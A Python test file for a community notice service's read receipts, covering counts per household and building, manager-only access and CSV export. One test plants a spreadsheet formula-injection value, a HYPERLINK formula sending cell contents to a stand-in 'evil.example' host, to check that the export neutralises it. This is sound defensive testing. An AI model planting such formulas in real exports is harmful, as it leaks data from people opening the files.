"""Read receipts in households, by building, unread emergencies and the CSV export
(services/notices/receipts.py)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from tests.notices.factories import (
    NOON,
    Community,
    notice_body,
    notices_app,
    published_notice,
    set_clock,
)
from tests.support import client_for


async def test_emergency_publishes_at_once_and_receipts_list_unread_households(database_urls):
    async with notices_app(database_urls["notices"]) as app, client_for(app) as client:
        set_clock(app, NOON)
        c = Community(app)
        owners = [{"owner_key": "k1", "name": "李明", "phone_masked": "138****1234"}]
        r101 = await c.room("1", "101", owners=owners)
        r102 = await c.room(
            "1", "102", owners=[{"owner_key": "k2", "name": "王芳", "phone_masked": "139****5678"}]
        )
        r201 = await c.room("2", "201")
        await c.room("2", "202")  # nobody bound: not a targeted household
        _, li = await c.member(r101)
        _, li_family = await c.member(r101, "family")
        await c.member(r102)
        _, zhao = await c.member(r201)

        r = await client.post(
            "/notices",
            json=notice_body(
                c,
                category="emergency",
                title="燃气泄漏",
                body="3号楼燃气泄漏，请勿使用明火。",
                expires_at=(NOON + timedelta(hours=6)).isoformat(),
            ),
            headers=c.manager,
        )
        nid = r.json()["id"]
        r = await client.post(f"/notices/{nid}/publish", headers=c.manager)
        assert r.status_code == 200 and r.json()["status"] == "published"

        # Two members of 1-101 read: one household, counted once.
        assert (await client.get(f"/notices/{nid}", headers=li)).status_code == 200
        assert (await client.get(f"/notices/{nid}", headers=li)).status_code == 200
        assert (await client.get(f"/notices/{nid}", headers=li_family)).status_code == 200
        assert (await client.get(f"/notices/{nid}", headers=zhao)).status_code == 200

        r = await client.get(f"/notices/{nid}/receipts", headers=c.other_manager)
        assert r.status_code == 200
        receipts = r.json()
        assert (receipts["targeted"], receipts["read"]) == (3, 2)
        assert [
            (b["building_name"], b["targeted"], b["read"]) for b in receipts["by_building"]
        ] == [
            ("1栋", 2, 1),
            ("2栋", 1, 1),
        ]
        assert [(u["label"], u["owners"]) for u in receipts["unread"]] == [
            ("1栋102", [{"name": "王芳", "phone_masked": "139****5678"}])
        ]

        r = await client.get(f"/notices/{nid}/receipts?format=csv", headers=c.manager)
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        lines = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
        assert lines[0][:3] == ["楼栋", "房号", "是否已读"]
        assert ["1栋", "1栋102", "未读", "王芳", "139****5678"] in lines and len(lines) == 4

        # An owner may not see receipts: the notice's management side does not exist for them.
        assert (await client.get(f"/notices/{nid}/receipts", headers=li)).status_code == 404


async def test_receipts_export_makes_formulas_in_names_and_rooms_plain_text(database_urls):
    async with notices_app(database_urls["notices"]) as app, client_for(app) as client:
        set_clock(app, NOON)
        c = Community(app)
        hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
        plain = await c.room(
            "1", "101", owners=[{"owner_key": "k1", "name": "李明", "phone_masked": "138****1234"}]
        )
        hostile = await c.room(
            "-2+3",
            "201",
            owners=[
                {"owner_key": "k2", "name": hyperlink, "phone_masked": "+86 139****5678"},
                {"owner_key": "k3", "name": "王芳", "phone_masked": "137****0000"},
            ],
        )
        _, li = await c.member(plain)
        await c.member(hostile)
        notice = await published_notice(client, c)
        assert (await client.get(f"/notices/{notice['id']}", headers=li)).status_code == 200

        r = await client.get(f"/notices/{notice['id']}/receipts?format=csv", headers=c.manager)
        assert r.status_code == 200
        assert r.headers["content-type"] == "text/csv; charset=utf-8"
        assert (
            r.headers["content-disposition"]
            == f'attachment; filename="receipts-{notice["id"]}.csv"'
        )
        assert r.text.startswith("\ufeff楼栋,房号,是否已读,业主,手机号（脱敏）\r\n")
        assert list(csv.reader(io.StringIO(r.text.removeprefix("\ufeff"), newline=""))) == [
            ["楼栋", "房号", "是否已读", "业主", "手机号（脱敏）"],
            # Shown as typed in a spreadsheet, and never run.
            [
                "'-2+3栋",
                "'-2+3栋201",
                "未读",
                "'" + hyperlink + "、王芳",
                "'+86 139****5678、137****0000",
            ],
            ["1栋", "1栋101", "已读", "李明", "138****1234"],
        ]
